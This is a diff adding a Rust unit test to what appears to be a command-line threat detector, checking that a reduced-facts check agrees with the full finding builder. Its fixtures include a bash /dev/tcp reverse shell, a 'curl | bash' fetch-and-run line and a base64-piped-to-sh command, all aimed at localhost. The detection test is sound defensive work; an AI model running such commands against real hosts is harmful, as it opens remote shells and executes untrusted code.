@@ -664,3 +664,50 @@ fn times_are_utc_with_z() {
     );
     assert_eq!(rfc3339_utc("not a time"), "not a time");
 }
+
+/// What the pipeline gives `finds_anything` for an already-judged `-c`
+/// text: no binary, no container, the parent's pid, ppid and comm only.
+fn reduced(d: &Detection) -> Detection {
+    let mut r = d.clone();
+    r.enrichment.binary = None;
+    r.enrichment.container = None;
+    r.enrichment.ancestors.truncate(1);
+    for p in &mut r.enrichment.ancestors {
+        p.binary = None;
+        p.args.clear();
+    }
+    r
+}
+
+#[test]
+fn finds_anything_agrees_with_build_all_on_the_reduced_facts() {
+    let mut cases = Vec::new();
+    for (code, score) in [
+        ("true", 0.0),
+        ("echo hello", 0.1),
+        ("bash -i >& /dev/tcp/127.0.0.1/9 0>&1", 0.1),
+        ("curl -s http://127.0.0.1:9/x | bash", 0.95),
+        (
+            "echo ZWNobyBoZWxsbyB3b3JsZCBmcm9tIGEgYmFzZTY0IGJsb2IgaGVyZQ== | base64 -d | sh",
+            0.2,
+        ),
+    ] {
+        cases.push(detection(inline_event("/usr/bin/bash", code), code, score));
+    }
+    let mut from_nginx = cases[0].clone();
+    from_nginx.enrichment.ancestors = dropper().enrichment.ancestors;
+    from_nginx.enrichment.ancestors[0].comm = "nginx".into();
+    cases.push(from_nginx);
+    let mut disabled = config();
+    disabled.finding.disabled_categories = vec!["Reverse Shell".into()];
+    for c in [config(), disabled] {
+        for d in &cases {
+            let want = !build_all(d, &c).is_empty();
+            assert_eq!(finds_anything(d, &c), want, "{:?}", d.event.argv);
+            assert_eq!(finds_anything(&reduced(d), &c), want, "{:?}", d.event.argv);
+        }
+    }
+    // The plain `true` finds nothing; the reverse shell does, benign score or not.
+    assert!(!finds_anything(&cases[0], &config()));
+    assert!(finds_anything(&cases[2], &config()));
+}
